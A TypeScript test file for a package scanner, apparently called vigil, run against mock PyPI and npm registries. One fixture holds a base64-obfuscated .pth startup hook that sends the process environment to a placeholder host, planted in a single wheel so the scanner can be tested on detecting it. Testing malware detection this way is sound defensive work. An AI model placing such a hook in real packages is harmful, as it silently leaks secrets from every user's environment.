import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { npmVersion, sdistFile, startRegistryServer, wheelFile } from '../helpers/registry-server.js';
import type { RegistryServer } from '../helpers/registry-server.js';
import { runCli } from '../helpers/cli.js';
import type { JsonReport } from '../helpers/cli.js';


const SETUP = (v: string): string => `from setuptools import setup\nsetup(name="tidy-dates", version="${v}")\n`;
const INIT = 'def today():\n    import datetime\n    return datetime.date.today()\n';
// Inert: malware hidden in ONE wheel of an otherwise clean release (startup hook through a .pth file).
const EVIL_PTH = "import os, base64; exec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0LCBvczsgdXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly94LmV4YW1wbGUuaW52YWxpZC8nLCBkYXRhPXN0cihkaWN0KG9zLmVudmlyb24pKS5lbmNvZGUoKSk='))\n";

let server: RegistryServer;
let staticIndex: RegistryServer;
const home = mkdtempSync(join(tmpdir(), 'vigil-reg-'));
const env = (extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv => ({ HOME: home, PATH: process.env.PATH, VIGIL_CACHE_DIR: join(home, 'cache'), ...extra });

before(async () => {
  const fixtures = {
    pypi: [
      {
        name: 'Tidy_Dates',
        files: [
          sdistFile('tidy-dates', '1.0.0', { 'setup.py': SETUP('1.0.0') }),
          sdistFile('tidy-dates', '1.1.0', { 'setup.py': SETUP('1.1.0') }),
          wheelFile('tidy-dates', '1.1.0', { 'tidy_dates/__init__.py': INIT }),
          wheelFile('tidy-dates', '1.1.0', { 'tidy_dates/__init__.py': INIT, 'tidy_dates_init.pth': EVIL_PTH }, 'cp311-cp311-win_amd64'),
          sdistFile('tidy-dates', '1.2.0', { 'setup.py': SETUP('1.2.0') }, { yanked: 'broken' }),
          sdistFile('tidy-dates', '2.0.0rc1', { 'setup.py': SETUP('2.0.0rc1') }),
        ],
      },
      { name: 'tampered', files: [sdistFile('tampered', '1.0.0', { 'setup.py': SETUP('1.0.0') }, { tamperHash: true })] },
    ],
    npm: [
      {
        name: '@acme/pad',
        versions: [npmVersion('@acme/pad', '1.0.0', { 'index.js': 'module.exports = (s, n) => String(s).padStart(n);\n' }), npmVersion('@acme/pad', '1.1.0', { 'index.js': 'module.exports = (s) => s;\n' })],
      },
      { name: 'bad-integrity', versions: [npmVersion('bad-integrity', '1.0.0', { 'index.js': '1;\n' }, { tamper: true })] },
    ],
  };
  server = await startRegistryServer(fixtures);
  staticIndex = await startRegistryServer({ ...fixtures, htmlOnly: true });
});

after(async () => {
  await server.close();
  await staticIndex.close();
});

test('pypi: exact version from a plain static PEP 503 HTML index', async () => {
  const run = await runCli(['scan', '--format', 'json', '--no-metadata', '--index-url', staticIndex.pypiIndexUrl, 'pypi:tidy-dates==1.0.0'], { env: env() });
  assert.equal(run.code, 0, run.stderr);
  const r = (JSON.parse(run.stdout) as JsonReport).results[0]!;
  assert.equal(r.target, 'pypi:tidy-dates==1.0.0');
  assert.equal(r.version, '1.0.0');
  assert.equal(r.verdict, 'clean');
  assert.equal(r.artifacts.length, 1);
});

test('pypi: latest non-yanked, non-pre-release; every artifact of the release is scanned; malware in one wheel is found', async () => {
  const run = await runCli(['scan', '--format', 'json', '--no-metadata', 'pypi:tidy.dates'], { env: env({ PIP_INDEX_URL: server.pypiIndexUrl }) });
  const r = (JSON.parse(run.stdout) as JsonReport).results[0]!;
  assert.deepEqual(r.errors, []);
  assert.equal(r.version, '1.1.0', 'skips yanked 1.2.0 and pre-release 2.0.0rc1');
  assert.equal(r.artifacts.length, 3);
  assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  assert.ok(r.findings.some((f) => f.location.path.endsWith('.pth')));
  assert.equal(run.code, 1);
  const pre = await runCli(['scan', '--format', 'json', '--no-metadata', '--pre', '--index-url', server.pypiIndexUrl, 'pypi:tidy-dates'], { env: env() });
  assert.equal((JSON.parse(pre.stdout) as JsonReport).results[0]!.version, '2.0.0rc1');
});

test('pypi: a wrong hash in the index is refused with exit 2 naming the integrity failure', async () => {
  for (const index of [server.pypiIndexUrl, staticIndex.pypiIndexUrl]) {
    const run = await runCli(['scan', '--no-metadata', '--index-url', index, 'pypi:tampered==1.0.0'], { env: env() });
    assert.equal(run.code, 2);
    assert.match(run.stderr, /integrity|hash/i);
  }
});

test('npm: scoped names, ranges, purls; integrity failures refused', async () => {
  const run = await runCli(
    ['scan', '--format', 'json', '--no-metadata', '--registry', server.npmRegistryUrl, 'npm:@acme/pad@^1.0.0', 'pkg:npm/%40acme/pad@1.0.0', 'npm:@acme/pad'],
    { env: env() },
  );
  assert.equal(run.code, 0, run.stderr);
  const results = (JSON.parse(run.stdout) as JsonReport).results;
  assert.deepEqual(results.map((r) => r.version), ['1.1.0', '1.0.0', '1.1.0']);
  assert.deepEqual(results.map((r) => r.name), ['@acme/pad', '@acme/pad', '@acme/pad']);
  const bad = await runCli(['scan', '--no-metadata', 'npm:bad-integrity@1.0.0'], { env: env({ npm_config_registry: server.npmRegistryUrl }) });
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /integrity/i);
});

test('not found and unreachable registries are clear errors (exit 2)', async () => {
  const missing = await runCli(['scan', '--no-metadata', '--index-url', server.pypiIndexUrl, 'pypi:does-not-exist'], { env: env() });
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /not found|404/i);
  const down = await runCli(['scan', '--no-metadata', '--timeout', '2', '--registry', 'http://127.0.0.1:9/', 'npm:left-pad'], { env: env() });
  assert.equal(down.code, 2);
  assert.match(down.stderr, /127\.0\.0\.1/);
});

test('registry scans report what is new since the previous release', async () => {
  const run = await runCli(['scan', '--format', 'json', '--no-metadata', '--index-url', server.pypiIndexUrl, 'pypi:tidy-dates==1.1.0'], { env: env() });
  const r = JSON.parse(run.stdout) as { results: { newInRelease?: { ruleId: string; location: { path: string } }[] }[] };
  const added = r.results[0]!.newInRelease ?? [];
  assert.ok(added.some((f) => f.location.path.endsWith('.pth')), JSON.stringify(added));
  const off = await runCli(['scan', '--format', 'json', '--no-metadata', '--no-diff', '--index-url', server.pypiIndexUrl, 'pypi:tidy-dates==1.1.0'], { env: env() });
  assert.equal((JSON.parse(off.stdout) as { results: { newInRelease?: unknown }[] }).results[0]!.newInRelease, undefined);
});

test('the project config allowlists findings with a reason and internal names flag dependency confusion', async () => {
  const project = mkdtempSync(join(tmpdir(), 'vigil-proj-'));
  const { writeFileSync } = await import('node:fs');
  writeFileSync(
    join(project, 'vigil.config.json'),
    JSON.stringify({ allow: [{ name: 'tidy-dates', rule: 'py/*', reason: 'reviewed by the security team' }], internal: { npm: ['@acme/*'] } }),
  );
  const run = await runCli(['scan', '--format', 'json', '--no-metadata', '--no-diff', '--index-url', server.pypiIndexUrl, '--registry', server.npmRegistryUrl, 'pypi:tidy-dates==1.1.0', 'npm:@acme/pad@1.0.0'], {
    env: env(),
    cwd: project,
  });
  const results = (JSON.parse(run.stdout) as { results: { verdict: string; suppressed?: { reason: string }[]; findings: { ruleId: string }[] }[] }).results;
  assert.ok((results[0]!.suppressed ?? []).some((s) => s.reason === 'reviewed by the security team'));
  assert.ok(!results[0]!.findings.some((f) => f.ruleId.startsWith('py/')));
  assert.ok(results[1]!.findings.some((f) => f.ruleId === 'meta/dependency-confusion'));
});
